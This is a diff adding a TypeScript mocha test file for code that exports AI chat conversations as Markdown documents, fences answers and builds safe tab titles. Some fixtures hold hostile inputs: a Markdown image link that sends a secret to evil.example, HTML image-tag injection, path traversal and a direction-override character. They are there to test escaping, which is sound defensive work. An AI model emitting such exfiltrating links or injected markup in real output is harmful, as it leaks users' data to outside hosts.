@@ -1,0 +1,114 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'mocha';
+import {
+  type DocumentWords,
+  escapeMarkdown,
+  toDocument,
+  toFenced,
+  toFileTitle,
+} from '../../../src/chat/document.ts';
+import { createTurn } from '../../../src/chat/fold.ts';
+import type { Conversation, Exchange, RequestFacts, Turn } from '../../../src/chat/turn.ts';
+
+const FACTS: RequestFacts = {
+  routeName: 'work',
+  routeKind: 'direct',
+  model: 'svc-k3',
+  maxCompletionTokens: undefined,
+  clampedFrom: undefined,
+  effort: undefined,
+  prompt: undefined,
+  prefix: [],
+};
+
+const WORDS: DocumentWords = {
+  you: 'You',
+  noAnswer: 'No answer text.',
+  turnHeading: (turn, attempt, attempts) => `svc-k3 ${turn.id} ${attempt}/${attempts}`,
+  origin: ({ uri, startLine }) => `About ${uri}:${startLine + 1}`,
+  image: (name) => `Image ${name}`,
+  notes: (turn) => (turn.outcome === undefined ? [] : ['1,234 tokens']),
+};
+
+function turn(id: string, answer: string): Turn {
+  return { ...createTurn(id, 0, FACTS), answer, outcome: 'complete', phase: 'ended' };
+}
+
+function exchange(question: string, attempts: readonly Turn[], shown = attempts.length - 1): Exchange {
+  const id = `e-${question}`;
+  return { id, question: { text: question, images: [], origin: undefined }, attempts, shown };
+}
+
+function conversation(...exchanges: Exchange[]): Conversation {
+  return { id: 'c', createdAt: 0, title: 'About parsers', exchanges };
+}
+
+describe('The document of a conversation', () => {
+  it('gives the line of the heading of each shown turn', () => {
+    const open = conversation(
+      exchange('one\ntwo\nthree', [turn('a', 'first\n\nanswer')]),
+      exchange('again?', [turn('b', 'no'), turn('c', 'yes')], 1),
+      exchange('and now?', [turn('d', '')]),
+    );
+    const { text, lines } = toDocument(open, WORDS);
+    const rows = text.split('\n');
+    assert.deepEqual([...lines.keys()], ['a', 'c', 'd']);
+    assert.equal(rows[lines.get('a') ?? -1], '## svc-k3 a 1/1');
+    assert.equal(rows[lines.get('c') ?? -1], '## svc-k3 c 2/2');
+    assert.equal(rows[lines.get('d') ?? -1], '## svc-k3 d 1/1');
+  });
+
+  it('shows the attempt that is shown, and no other', () => {
+    const { text } = toDocument(conversation(exchange('?', [turn('a', 'old'), turn('b', 'new')], 0)), WORDS);
+    assert.match(text, /old/);
+    assert.doesNotMatch(text, /new/);
+  });
+
+  it('says so when there is no answer text', () => {
+    const { text } = toDocument(conversation(exchange('?', [turn('a', ' \n')])), WORDS);
+    assert.match(text, /No answer text\./);
+  });
+
+  it('keeps an answer inside its fence, whatever fences it has itself', () => {
+    const answer = '````\n```\n![x](https://evil.example/?q=secret)\n```\n````\n';
+    const { text } = toDocument(conversation(exchange('?', [turn('a', answer)])), WORDS);
+    assert.ok(text.includes(`\`\`\`\`\`md\n${answer}\`\`\`\`\``), text);
+  });
+
+  it('lets neither a title nor a note name an image or a link', () => {
+    const open = { ...conversation(), title: '![x](https://evil.example)\n# <img src=x>' };
+    assert.equal(
+      toDocument(open, WORDS).text.split('\n')[0],
+      '# \\!\\[x\\](https://evil.example) \\# \\<img src=x\\>',
+    );
+  });
+});
+
+describe('A text in a fence', () => {
+  it('stands line by line as it came, so many lines further down', () => {
+    const { text, linesAbove } = toFenced('one\r\n\r\ntwo\nthree');
+    assert.equal(text.split('\n')[linesAbove + 2], 'two');
+  });
+
+  it('has no line where only an editor sees one', () => {
+    assert.equal(toFenced('a\rb\nc').text, '```md\na b\nc\n```');
+  });
+});
+
+describe('A name for a tab', () => {
+  it('is the first line, without what paths cannot hold', () => {
+    assert.equal(toFileTitle('  Why does a/b:c? fail\nsecond', 'none'), 'Why does a b c fail');
+  });
+  it('is cut, and never in the middle of a character', () => {
+    const title = toFileTitle('🙂'.repeat(40), 'none');
+    assert.ok(title.length <= 48 && title.isWellFormed(), title);
+  });
+  it('falls back when nothing is left', () => assert.equal(toFileTitle('../..', 'none'), 'none'));
+  it('hides no direction marks', () => assert.equal(toFileTitle('a\u202Eb', 'none'), 'a b'));
+});
+
+describe('Escaped Markdown', () => {
+  it('is one line in which nothing means anything', () => {
+    assert.equal(escapeMarkdown('a | *b*\n`c` &amp;'), 'a \\| \\*b\\* \\`c\\` \\&amp;');
+  });
+});
